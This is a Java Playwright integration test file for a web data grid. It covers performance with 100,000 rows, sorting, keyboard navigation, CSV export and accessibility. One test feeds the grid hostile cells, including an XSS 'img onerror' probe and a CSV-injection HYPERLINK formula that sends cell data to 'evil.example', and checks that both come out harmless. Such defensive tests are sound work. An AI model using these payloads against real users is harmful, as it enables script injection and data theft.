package dev.yera.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import dev.yera.Thorough;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Tables of many rows or columns. */
@Thorough
@InBrowser
class GridPageIT {
  /** As many rows and cells as a grid may have in the page, whatever its table has. */
  private static final int MOST_ROWS = 60;

  private static final int MOST_CELLS = 1000;

  /** When the last bytes of the session came. */
  private static final String NOTES_TIMES =
      """
      const { read } = ReadableStreamDefaultReader.prototype;
      ReadableStreamDefaultReader.prototype.read = async function (...of) {
        const result = await read.apply(this, of);
        if (!result.done) {
          window.lastBytes = performance.now();
        }
        return result;
      };
      const { setAttribute } = Element.prototype;
      Element.prototype.setAttribute = function (name, value) {
        setAttribute.call(this, name, value);
        if (name === 'aria-rowcount' && value === '100001') {
          requestAnimationFrame(() => requestAnimationFrame(() => (window.shown ??= performance.now() - window.lastBytes)));
        }
      };
      """;

  /** Measured, not tested. */
  private static final String TIMES =
      """
      async (grid) => {
        const frame = () => new Promise(requestAnimationFrame);
        const took = async (act) => {
          const begun = performance.now();
          await act();
          await frame();
          return Math.round(performance.now() - begun);
        };
        const frames = 100;
        const scrolled = await took(async () => {
          for (let n = 0; n < frames; n += 1) {
            grid.scrollTop += 1000;
            await frame();
          }
        });
        const [, city, , , amount] = grid.querySelectorAll('[role=columnheader] button');
        const words = await took(() => city.click());
        const numbers = await took(() => amount.click());
        grid.scrollTop = 0;
        await frame();
        return `shown ${Math.round(window.shown)} ms after its last byte; ${Math.round((frames * 1000) / scrolled)} frames/s`
          + ` while it scrolls; sorted by words in ${words} ms, by numbers in ${numbers} ms`;
      }
      """;

  private final PageWorld world;

  GridPageIT(PageWorld world) {
    this.world = world;
  }

  private static Window open(Window window, String what, int rows) {
    window.open("/apps/page.grid?what=%s&rows=%d".formatted(what, rows));
    window.button("Start").click();
    assertThat(window.line()).isVisible();
    assertThat(window.page().getByRole(AriaRole.GRID)).isVisible();
    return window;
  }

  /** The cells of a column, of the rows that are in the page. */
  private static Locator column(Window window, int number) {
    return window.page().locator(".grid .row [aria-colindex=\"%d\"]".formatted(number));
  }

  private static Locator row(Window window, int number) {
    return window.page().locator(".grid .row[aria-rowindex=\"%d\"]".formatted(number + 1));
  }

  @Test
  void aHundredThousandRowsAreGoneThroughWithFewOfThemInThePage() {
    Window window = world.window().withoutWorkers();
    Page page = window.page();
    page.addInitScript(NOTES_TIMES);
    open(window, "long", 100_000);
    Locator grid = page.getByRole(AriaRole.GRID);
    assertThat(grid).hasAttribute("aria-rowcount", "100001");
    assertThat(grid).hasAttribute("aria-colcount", "8");
    assertThat(row(window, 1)).containsText("note 0 of 100000");
    hasFewNodes(window);
    System.err.printf("A table of 100,000 rows and 8 columns: %s%n", grid.evaluate(TIMES));
    window.button("Number").click();
    grid.evaluate("(e) => (e.scrollTop = e.scrollHeight / 2)");
    assertThat(row(window, 50_001)).containsText("note 50000 of 100000");
    hasFewNodes(window);
    column(window, 2).nth(12).click();
    page.keyboard().press("Control+End");
    assertThat(row(window, 100_000)).containsText("note 99999 of 100000");
    assertThat(row(window, 100_000).locator("[aria-colindex=\"8\"]")).isFocused();
    hasFewNodes(window);
    window.field("Search the table").fill("note 7777");
    window.shows("11 rows found");
    assertThat(grid).hasAttribute("aria-rowcount", "12");
    assertThat(row(window, 11)).containsText("note 77779 of");
    window.hasNoComplaints();
  }

  private static void hasFewNodes(Window window) {
    Locator grid = window.page().getByRole(AriaRole.GRID);
    assertThat(grid.locator(".row").count()).isBetween(1, MOST_ROWS);
    assertThat(grid.locator(".cell").count()).isBetween(1, MOST_CELLS);
  }

  @Test
  void aGridSortsByNumbersWordsAndDaysAndLeavesColumnsOut() {
    Window window = open(world.window(), "long", 1000);
    window.button("Amount").click();
    assertThat(row(window, 1).locator("[aria-colindex=\"5\"]")).hasText("-50,000");
    window.button("Amount").click();
    assertThat(row(window, 1).locator("[aria-colindex=\"5\"]")).hasText("-13,037");
    assertThat(window.page().locator("[aria-sort=descending]")).hasText("Amount");
    window.button("City").click();
    assertThat(row(window, 1).locator("[aria-colindex=\"2\"]")).hasText("Århus");
    window.button("Day").click();
    assertThat(row(window, 1)).containsText("Jan 1, 2020");
    window.button("Right").click();
    assertThat(row(window, 1).locator("[aria-colindex=\"8\"]")).hasText("x");

    window.text("Columns").last().click();
    window.field("City").uncheck();
    window.field("Left").uncheck();
    assertThat(window.page().getByRole(AriaRole.GRID)).hasAttribute("aria-colcount", "6");
    assertThat(window.page().getByRole(AriaRole.COLUMNHEADER))
        .hasText(new String[] {"Number", "Day", "Share", "Amount", "Note", "Right"});
    window.isAccessible();
    window.field("City").check();
    assertThat(window.page().getByRole(AriaRole.COLUMNHEADER).nth(1)).hasText("City");
    window.hasNoComplaints();
  }

  @Test
  void aGridIsGoneThroughByKeysAlone() {
    Window window = open(world.window(), "long", 1000);
    Page page = window.page();
    window.text("Columns").last().focus();
    page.keyboard().press("Tab");
    assertThat(window.button("Number")).isFocused();
    page.keyboard().press("ArrowRight");
    assertThat(window.button("City")).isFocused();
    page.keyboard().press("Enter");
    assertThat(page.locator("[aria-sort=ascending]")).hasText("City");
    assertThat(window.button("City")).isFocused();
    page.keyboard().press("Home");
    page.keyboard().press("Enter");
    assertThat(page.locator("[aria-sort=ascending]")).hasText("Number");
    page.keyboard().press("ArrowDown");
    assertThat(row(window, 1).getByRole(AriaRole.ROWHEADER)).isFocused();
    page.keyboard().press("ArrowUp");
    assertThat(window.button("Number")).isFocused();
    page.keyboard().press("Control+ArrowDown");
    assertThat(row(window, 1000).locator("[aria-colindex=\"1\"]")).isFocused();
    page.keyboard().press("ArrowDown");
    page.keyboard().press("End");
    page.keyboard().press("PageUp");
    page.keyboard().press("PageDown");
    assertThat(row(window, 1000).locator("[aria-colindex=\"8\"]")).isFocused();
    page.keyboard().press("Control+Home");
    assertThat(window.button("Number")).isFocused();

    for (int row = 0; row < 8; row++) {
      page.keyboard().press("ArrowDown");
    }
    for (int column = 0; column < 5; column++) {
      page.keyboard().press("ArrowRight");
    }
    assertThat(window.button("Show the whole cell")).isVisible();
    page.keyboard().press("Enter");
    window.shows("Note, row 8");
    assertThat(page.locator(".whole .text"))
        .hasText(
            "note 7 of 1000, which has more to say than there is room for in a line of the grid");
    window.isAccessible();
    page.keyboard().press("Escape");
    assertThat(page.locator(".whole")).isHidden();
    assertThat(row(window, 8).locator("[aria-colindex=\"6\"]")).isFocused();
    page.keyboard().press("Shift+Tab");
    assertThat(window.text("Columns").last()).isFocused();
    window.hasNoComplaints();
  }

  @Test
  void whatIsShownIsSavedAsCsv() throws IOException {
    Window window = open(world.window(), "long", 1000);
    window.text("Columns").last().click();
    for (String name : List.of("City", "Share", "Note", "Left", "Right")) {
      window.field(name).uncheck();
    }
    window.button("Amount").click();
    window.field("Search the table").fill("2024-02");
    window.shows("rows found");
    int found =
        Integer.parseInt(window.page().getByRole(AriaRole.GRID).getAttribute("aria-rowcount")) - 1;
    Download download = window.page().waitForDownload(() -> window.button("Save as CSV").click());
    assertThat(download.suggestedFilename()).isEqualTo("Grid long table.csv");
    String csv = Files.readString(download.path(), StandardCharsets.UTF_8);
    assertThat(csv).startsWith("\ufeffNumber,Day,Amount\r\n").endsWith("\r\n");
    List<String> lines = csv.lines().skip(1).toList();
    assertThat(lines).hasSize(found).allMatch(line -> line.matches("\\d+,2024-02-\\d\\d,-\\d+"));
    assertThat(
            lines.stream()
                .map(line -> Integer.valueOf(line.substring(line.lastIndexOf(',') + 1)))
                .toList())
        .isSorted();
    window.hasNoComplaints();
  }

  @Test
  void cellsThatNobodyExpectsAreText() throws IOException {
    Window window = open(world.window(), "hostile", 300);
    Page page = window.page();
    assertThat(row(window, 1)).containsText("<img src=x onerror");
    assertThat(page.locator(".grid img, .grid script")).hasCount(0);
    assertThat(row(window, 7)).containsText("{\"a\":[1,null]}");
    assertThat(page.getByRole(AriaRole.COLUMNHEADER).nth(1)).hasText("__proto__");
    assertThat(page.locator(".grid a[href^='https://example.org/']").first()).isVisible();
    assertThat(page.locator(".grid a:not([href^='https://example.org/'])")).hasCount(0);
    Locator long_ = row(window, 5).locator("[aria-colindex=\"1\"]");
    assertThat(((String) long_.evaluate("(e) => e.textContent")).length()).isLessThan(400);
    long_.dblclick();
    assertThat((int) page.locator(".whole .text").evaluate("(e) => e.textContent.length"))
        .isEqualTo(800_000);
    page.keyboard().press("Escape");
    window.button("__proto__").click();
    assertThat(row(window, 1).locator("[aria-colindex=\"2\"]")).hasText("-299");
    Download download = page.waitForDownload(() -> window.button("Save as CSV").click());
    String csv = Files.readString(download.path(), StandardCharsets.UTF_8);
    assertThat(csv)
        .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",-1,")
        .contains("nul \0 and bell")
        .contains("\"two\nlines, and \"\"quotes\"\"\",-5,");
    window.isAccessible();
    window.hasNoComplaints();
  }

  @Test
  void aTableOfManyColumnsHasFewOfThemInThePage() {
    Window window = open(world.window(), "wide", 250);
    Page page = window.page();
    hasFewNodes(window);
    page.getByRole(AriaRole.GRID).evaluate("(e) => (e.scrollLeft = e.scrollWidth)");
    assertThat(row(window, 2).locator("[aria-colindex=\"250\"]")).hasText("249");
    hasFewNodes(window);
    row(window, 2).locator("[aria-colindex=\"250\"]").click();
    page.keyboard().press("Control+ArrowLeft");
    assertThat(row(window, 2).locator("[aria-colindex=\"1\"]")).isFocused();
    window.button("Column 0").click();
    assertThat(page.getByRole(AriaRole.COLUMNHEADER).first())
        .hasAttribute("aria-sort", "ascending");
    assertThat(page.evaluate("document.documentElement.scrollWidth <= innerWidth")).isEqualTo(true);
    window.hasNoComplaints();
  }

  @Test
  void whereTheGridCannotBeLoadedTheFirstRowsAreShown() {
    Window window = world.window();
    window.page().route("**/virtual-*", route -> route.abort());
    window.open("/apps/page.grid?what=long&rows=300");
    window.button("Start").click();
    assertThat(window.page().locator(".table tbody tr")).hasCount(200);
    assertThat(window.button("Show 100 more rows")).isVisible();
    window.isAccessible();
  }

  @ParameterizedTest
  @CsvSource({"long, 1280, LIGHT", "long, 390, DARK", "rtl, 1280, DARK", "rtl, 390, LIGHT"})
  void aGridIsAccessible(String what, int width, ColorScheme scheme) throws IOException {
    Window window =
        world.window(
            new Browser.NewContextOptions().setViewportSize(width, 844).setColorScheme(scheme));
    open(window, what, 400);
    if (what.equals("rtl")) {
      assertThat(window.page().getByRole(AriaRole.GRID)).hasCSS("direction", "rtl");
      column(window, 1).first().click();
      window.page().keyboard().press("ArrowLeft");
      assertThat(row(window, 1).locator("[aria-colindex=\"2\"]")).isFocused();
    }
    window.isAccessible();
    assertThat(window.page().evaluate("document.documentElement.scrollWidth <= innerWidth"))
        .isEqualTo(true);
    window.page().locator(".scroller").evaluate("(e) => (e.scrollTop = 0)");
    Pictures.take(window, "grid-%s-%d-%s.png".formatted(what, width, scheme));
    window.hasNoComplaints();
  }
}
